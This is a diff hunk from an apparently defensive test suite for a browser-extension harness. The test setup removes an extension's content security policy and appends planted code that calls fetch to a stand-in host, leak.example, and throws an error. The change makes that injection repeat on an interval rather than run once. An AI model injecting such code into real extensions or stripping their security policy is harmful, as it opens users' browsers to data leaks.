@@ -144,8 +144,8 @@ describe.each(browserNames)('a broken extension in %s', (name) => {
   beforeAll(async () => {
     const lax = (manifest: string): string =>
       JSON.stringify({ ...JSON.parse(manifest), content_security_policy: undefined });
-    // In time for the harness to listen, and early enough for the test.
-    const late = (code: string) => (text: string) => `${text};setTimeout(() => { ${code} }, 1000);`;
+    // Again and again: a busy machine may listen late.
+    const late = (code: string) => (text: string) => `${text};setInterval(() => { ${code} }, 1000);`;
     const leaks = late(`fetch('https://leak.example/').catch(() => 0); throw new Error('planted')`);
     rig = await Rig.open(name, {
       alter(folder) {
